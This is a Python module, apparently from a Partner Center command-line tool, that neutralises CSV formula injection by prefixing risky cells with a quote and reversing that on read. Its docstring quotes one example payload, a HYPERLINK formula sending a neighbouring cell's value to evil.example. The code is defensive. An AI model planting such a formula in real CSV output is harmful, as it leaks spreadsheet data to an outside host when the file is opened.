"""CSV cells that a spreadsheet must show as text, never run as a formula (CSV injection).

The command line writes caller-given and Partner Center-given text into CSV files that people open in Excel or
Google Sheets (``discover``'s candidates, the ``bulk`` report, ``list --output``): a company name typed by
whoever created the customer, an ``Idempotency-Key`` or ``MS-CorrelationId`` of
``=HYPERLINK("https://evil.example/?"&B2)`` would become a live formula there. OWASP's rule: a cell starting with
``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a leading ``'``, which spreadsheets read as "this is
text" (and show without it).

A cell that already starts with quotes before one of those characters gets one more, so that :func:`read_cell`
can remove exactly the quote :func:`safe_cell` added: a file the command line wrote (the report ``bulk``
resumes from) reads back as it was meant, for every string.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Mapping
from typing import Any

#: First characters that make a spreadsheet read a cell as a formula (OWASP "CSV Injection").
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: str) -> str:
    """``value`` as text a spreadsheet will not evaluate; unchanged when it cannot be a formula."""
    return "'" + value if value.lstrip("'").startswith(FORMULA_STARTS) else value


def safe_row(row: Mapping[str, str]) -> dict[str, str]:
    """Every cell of a CSV row through :func:`safe_cell`."""
    return {column: safe_cell(value) for column, value in row.items()}


def read_cell(value: str) -> str:
    """A cell of a file written with :func:`safe_cell`, as it was before it was written."""
    return value[1:] if value.startswith("'") and value.lstrip("'").startswith(FORMULA_STARTS) else value


def read_row(row: Mapping[Any, Any]) -> dict[str, str]:
    """A ``csv.DictReader`` row of such a file (text keys and values only), every cell as it was meant."""
    return {
        read_cell(key): read_cell(value)
        for key, value in row.items()
        if isinstance(key, str) and isinstance(value, str)
    }


class SafeDictWriter:
    """``csv.DictWriter`` that writes every cell, the header's included, through :func:`safe_cell`."""

    def __init__(self, handle: Any, fieldnames: Iterable[str]) -> None:
        self._fieldnames = list(fieldnames)
        self._writer = csv.writer(handle)

    def writeheader(self) -> None:
        self._writer.writerow([safe_cell(name) for name in self._fieldnames])

    def writerow(self, row: Mapping[str, object]) -> None:
        """One line: the fieldnames' values in order (missing: empty; keys not in the fieldnames are left out)."""
        self._writer.writerow([safe_cell(_text(row.get(name))) for name in self._fieldnames])

    def writerows(self, rows: Iterable[Mapping[str, object]]) -> None:
        for row in rows:
            self.writerow(row)


def _text(value: object) -> str:
    return "" if value is None else str(value)
